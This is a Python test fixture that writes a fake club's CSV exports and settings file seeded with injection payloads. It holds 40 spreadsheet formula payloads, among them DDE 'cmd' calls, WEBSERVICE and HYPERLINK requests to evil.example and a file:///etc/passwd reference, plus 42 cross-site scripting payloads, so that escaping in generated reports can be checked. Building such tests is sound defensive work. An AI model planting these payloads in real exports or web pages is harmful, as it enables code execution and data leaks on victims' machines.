"""Hostile texts for every text field of a client's exports: what a spreadsheet or a browser would run.

`FORMULAS` (40) and `SCRIPTS` (42), each in all 20 text fields of `FIELDS`: 800 formula and 840 script payloads, every one
marked with the number of its place, so that a find in a deliverable names the field that it came from.
`poisoned_client` writes them as the exports of a small club that runs from the first notebook to the last. In each field
a seventh of the payloads has groups large enough to be shown; over the fields every payload is shown somewhere.
"""

import csv
import json
import random
from collections.abc import Iterator
from datetime import date, timedelta
from pathlib import Path

MARK = "__pwned"  # what a script that runs would set on the window
FORMULAS = (
    "=1+{n}",
    '=HYPERLINK("http://evil.example/{n}","click")',
    "=cmd|' /C calc'!A{n}",
    '=DDE("cmd";"/C calc";"{n}")',
    '=WEBSERVICE("http://evil.example/{n}")',
    '=IMPORTXML("http://evil.example/{n}","//a")',
    '=IMAGE("http://evil.example/{n}.png")',
    "='file:///etc/passwd'#$passwd.A{n}",
    "=SUM(A1:A{n})",
    '=ГИПЕРССЫЛКА("http://evil.example/{n}";"открыть")',
    "+1+{n}",
    "+cmd|' /C notepad'!A{n}",
    '+HYPERLINK("http://evil.example/{n}")',
    "+7 +A{n}",
    "-1-{n}",
    "-cmd|' /C calc'!A{n}",
    "-2+3+cmd|' /C calc'!D{n}",
    "@SUM(1+{n})",
    "@cmd|' /C calc'!A{n}",
    '@HYPERLINK("http://evil.example/{n}")',
    "\t=1+{n}",
    "\r=1+{n}",
    "\n=1+{n}",
    " =1+{n}",
    "\u00a0=1+{n}",
    "\ufeff=1+{n}",
    "\uff1d1+{n}",
    "\uff0b1+{n}",
    "'=1+{n}",
    '"=1+{n}',
    '";=1+{n}',
    ",=1+{n}",
    "a;=1+{n}",
    "{{=1+{n}}}",
    "{{=TABLE(A1,A{n})}}",
    "=\u200b1+{n}",
    "http://evil.example/{n}",
    "mailto:evil?subject={n}",
    "internal:'metrics'!A{n}",
    "file:///C:/Windows/System32/calc{n}.exe",
)
_SET = "window." + MARK + "={n}"
SCRIPTS = tuple(
    text.replace("SET", _SET)
    for text in (
        "<script>SET</script>",
        "<SCRIPT>SET</SCRIPT>",
        "<scr<script>ipt>SET</scr</script>ipt>",
        "</title><script>SET</script>",
        "</style><script>SET</script>",
        "</textarea><script>SET</script>",
        "--><script>SET</script>",
        "]]><script>SET</script>",
        "\"><script>SET</script>",
        "'><script>SET</script>",
        "<script src=data:,SET></script>",
        "<script type=module>SET</script>",
        "<img src=x onerror=SET>",
        "<img src=x onerror=\"SET\">",
        "<img/src/onerror=SET>",
        "\"><img src=x onerror=SET>",
        "\" onmouseover=SET autofocus onfocus=SET x=\"",
        "' onmouseover=SET autofocus onfocus=SET x='",
        "<svg onload=SET>",
        "<svg><script>SET</script></svg>",
        "<svg><a xlink:href=\"javascript:SET\"><text>t</text></a></svg>",
        "<svg><animate onbegin=SET attributeName=x dur=1s>",
        "<svg><foreignObject><body onload=SET></foreignObject></svg>",
        "<math><mtext><script>SET</script></mtext></math>",
        "<body onload=SET>",
        "<iframe src=\"javascript:SET\"></iframe>",
        "<iframe srcdoc=\"<script>parent.SET</script>\"></iframe>",
        "<object data=\"javascript:SET\"></object>",
        "<embed src=\"javascript:SET\">",
        "<details open ontoggle=SET>",
        "<video><source onerror=SET></video>",
        "<input autofocus onfocus=SET>",
        "<style>@import 'http://evil.example/{n}'</style>",
        "<link rel=stylesheet href=http://evil.example/{n}>",
        "<meta http-equiv=refresh content=\"0;url=javascript:SET\">",
        "<base href=http://evil.example/{n}/>",
        "<form action=\"javascript:SET\"><button>go</button></form>",
        "<a href=\"javascript:SET\">click</a>",
        "[click](javascript:SET)",
        "![x](x\" onerror=\"SET)",
        "{{% raw %}}{{{{ SET }}}}",
        "&lt;script&gt;SET&lt;/script&gt;",
    )
)  # fmt: skip
FIELDS = (
    ("customers", "source"), ("customers", "club"), ("customers", "manager"), ("customers", "attr_goal"),
    ("contracts", "product"), ("contracts", "club"), ("contracts", "manager"), ("contracts", "attr_note"),
    ("visits", "activity"), ("payments", "item"), ("refusals", "reason_raw"),
    ("leads", "source"), ("leads", "manager"), ("leads", "stage"), ("leads", "lost_reason"),
    ("contacts", "channel"), ("contacts", "campaign"), ("contacts", "manager"),
    ("spend", "source"), ("feedback", "comment"),
)  # fmt: skip
CUSTOMERS = 700
AS_OF = date(2026, 6, 30)


def _filled(templates: tuple[str, ...], field: int) -> list[str]:
    """Payloads of one field, each with the number of its place in the whole list."""
    return [t.format(n=field * len(templates) + i) for i, t in enumerate(templates)]


def formulas() -> list[str]:
    """All 800 formula payloads, field by field."""
    return [text for field in range(len(FIELDS)) for text in _filled(FORMULAS, field)]


def scripts() -> list[str]:
    """All 840 script payloads, field by field."""
    return [text for field in range(len(FIELDS)) for text in _filled(SCRIPTS, field)]


def of_field(field: int) -> list[str]:
    """Both kinds for one place of `FIELDS`."""
    return _filled(FORMULAS, field) + _filled(SCRIPTS, field)


def _chosen(field: int, rows: int) -> list[str]:
    """A payload a row: every payload stands in some row, a seventh of them in many."""
    every = of_field(field)
    many = [text for i, text in enumerate(every) if (i + field) % 7 == 0]
    draw = random.Random(field)
    return [every[r] if r < len(every) else draw.choice(many) for r in range(rows)]


def _iso(day: date) -> str:
    return day.isoformat()


def _tables() -> dict[str, list[dict[str, object]]]:
    """The rows of the club without their hostile texts; every field of `FIELDS` is left out."""
    draw = random.Random(7)
    tables: dict[str, list[dict[str, object]]] = {name: [] for name, _ in FIELDS}
    for number in range(CUSTOMERS):
        key, start = f"K{number:04d}", date(2022, 1, 1) + timedelta(days=draw.randrange(1500))
        sex = ("female", "male")[number % 2]
        tables["customers"].append(
            {"key": key, "sex": sex, "birth_year": 1960 + draw.randrange(48), "joined_on": _iso(start)}
        )
        first = True
        while start <= AS_OF and (first or draw.random() < 0.6):
            ends = start + timedelta(days=364)
            contract = f"C{len(tables['contracts']):05d}"
            tables["contracts"].append(
                {"contract": contract, "key": key, "sold_on": _iso(start), "starts_on": _iso(start), "ends_on": _iso(ends),
                 "price": 20000 + 100 * draw.randrange(50)}
            )  # fmt: skip
            tables["payments"].append(
                {"payment": f"P{contract}", "key": key, "paid_on": _iso(start), "amount": 20000, "contract": contract}
            )
            for _ in range(6):
                day = start + timedelta(days=draw.randrange(365))
                if day <= AS_OF:
                    tables["visits"].append({"key": key, "visited_at": f"{day} {8 + draw.randrange(12):02d}:15"})
            start, first = ends + timedelta(days=1), False
        if start <= AS_OF:
            tables["refusals"].append({"key": key, "contract": contract, "recorded_on": _iso(start)})
        tables["feedback"].append(
            {"key": key, "given_on": _iso(AS_OF - timedelta(days=number % 300)), "score": number % 11}
        )
        created = AS_OF - timedelta(days=draw.randrange(700))
        tables["leads"].append(
            {"lead": f"L{number:04d}", "key": key if number % 3 else "", "created_on": _iso(created)}
        )
        tables["contacts"].append({"key": key, "contacted_on": f"{created} 12:00", "duration_s": 30 + number % 90})
    for number in range(len(of_field(0))):
        month = date(2025 + number % 2, 1 + number % 6, 1)
        tables["spend"].append({"month": _iso(month), "amount": 1000 + number})
    return tables


_KEYS = {
    "key": "customer_key", "contract": "contract_id", "payment": "payment_id", "lead": "lead_id",
}  # fmt: skip
HEAD = "=1+1 <script>window.__pwned=1</script>"  # at the end of every heading of a file


def poisoned_client(folder: Path, *, language: str = "ru") -> Path:
    """
    Exports and client.yml of the poisoned club in `folder`; headings, its name and its consultant are hostile as well.

    Parameters
    ----------
    folder : Path
        Made if it does not exist; its name is the client's.
    language : {"ru", "en"}
    """
    folder.mkdir(parents=True, exist_ok=True)
    files = []
    for name, rows in _tables().items():
        hostile = {column: _chosen(i, len(rows)) for i, (t, column) in enumerate(FIELDS) if t == name}
        filled = [row | {c: texts[i] for c, texts in hostile.items()} for i, row in enumerate(rows)]
        columns = list(filled[0])
        headings = {column: f"{column} {HEAD}" for column in columns}
        with (folder / f"{name}.csv").open("w", encoding="utf-8", newline="") as file:
            writer = csv.writer(file, delimiter=";", quoting=csv.QUOTE_ALL)
            writer.writerow(headings.values())
            writer.writerows([row.get(c, "") for c in columns] for row in filled)
        mapped = {headings[c]: _KEYS.get(c, c) for c in columns}
        files.append({"file": f"{name}.csv", "table": name, "columns": mapped})
    settings = {
        "client": folder.name,
        "name": '=1+1 </title><script>window.__pwned=2</script>"',
        "consultant": "@SUM(1+1) <img src=x onerror=window.__pwned=3>",
        "kind": "contracts",
        "language": language,
        "as_of": AS_OF.isoformat(),
        "show_staff": True,
        "files": files,
    }
    text = json.dumps(settings, ensure_ascii=False, indent=1)  # JSON is YAML
    (folder / "client.yml").write_text(text + "\n", encoding="utf-8")
    return folder


def seen_marks(text: str) -> Iterator[str]:
    """Payloads of either kind that stand in `text` word by word."""
    yield from (p for p in [*formulas(), *scripts()] if p in text)
